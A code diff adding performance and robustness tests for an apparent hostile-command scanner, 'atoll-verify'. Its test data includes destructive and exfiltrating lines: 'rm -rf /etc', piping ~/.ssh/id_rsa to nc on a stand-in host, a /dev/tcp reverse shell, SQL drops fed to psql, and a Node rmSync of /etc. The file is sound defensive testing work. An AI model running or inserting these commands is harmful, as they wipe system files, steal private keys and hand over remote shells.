@@ -145,3 +145,39 @@ def test_what_stands_around_an_attack_does_not_lower_what_is_said(programs, tmp_
                    [surrounded(case["text"], before[language], behind[language]) for case in chosen])
     assert len(plain) == len(padded) == len(chosen)
     assert not [(case["id"], one, other) for case, one, other in zip(chosen, plain, padded) if other < one]
+
+
+# Shells that took 0.5 to 3 s, because a parser lost its way at each byte, or each search went over all that flows in.
+HOSTILE = {
+    "redirections": "<" * 32000, "outputs": ">" * 32000, "parameters": "${" * 16000, "pipeline": "a|" * 16000 + "a",
+    "tees": "a | tee b | " * 2700 + "c", "doubling": "x=$x$x\n" * 4500, "copies": "cat a >> a\n" * 2900,
+    "nested-loops": "for i in a b; do " * 1800 + "rm x; " + "done; " * 1800,
+    "descriptors": "exec 3<>/dev/tcp/a/1; sh <&3 >&3\n" * 900, "prompts": "python3\n" * 4000,
+    "stars": "cat <<E | psql\n" + "drop " * 6000 + "\nE",
+}
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_no_hostile_shell_text_takes_long_or_hides_what_stands_before_it(programs, tmp_path, name):
+    verify = os.path.join(os.environ.get("ATOLL_BIN", ROOT / "build" / "bin"), "atoll-verify")
+    file = tmp_path / "text.sh"
+    file.write_text(f"rm -rf /etc\n{HOSTILE[name]}\ncat ~/.ssh/id_rsa | nc x.test 80\n")
+    with subprocess.Popen([verify, "--json", "--no-own-rules", file], stdout=subprocess.PIPE) as process:
+        answer = json.loads(process.stdout.read())
+        usage = os.wait4(process.pid, 0)[2]
+        process.returncode = 0
+    # The slowest takes 0.15 s; what they took before was 4 times as much and more.
+    assert answer["computed_us"] < COMPUTED_MS_MAX * 1000 / 3
+    assert usage.ru_maxrss < MEMORY_MB_MAX << 10
+    assert "destructive.remove-system" in {finding["id"] for finding in answer["findings"]}
+
+
+def test_a_bundle_of_megabytes_is_looked_at_where_it_begins(programs, tmp_path):
+    verify = os.path.join(os.environ.get("ATOLL_BIN", ROOT / "build" / "bin"), "atoll-verify")
+    file = tmp_path / "bundle.js"
+    file.write_text("require('fs').rmSync('/etc', {recursive: true});\n"
+                    + "const a=[" + ",".join(f"function(e,t){{return e+t*{i}}}" for i in range(160000)) + "]\n")
+    answer = json.loads(subprocess.run([verify, "--json", "--no-own-rules", file], capture_output=True,
+                                       check=False).stdout)
+    assert answer["computed_us"] < COMPUTED_MS_MAX * 1000 / 3
+    assert {"destructive.remove-system", "unknown.size"} <= {finding["id"] for finding in answer["findings"]}
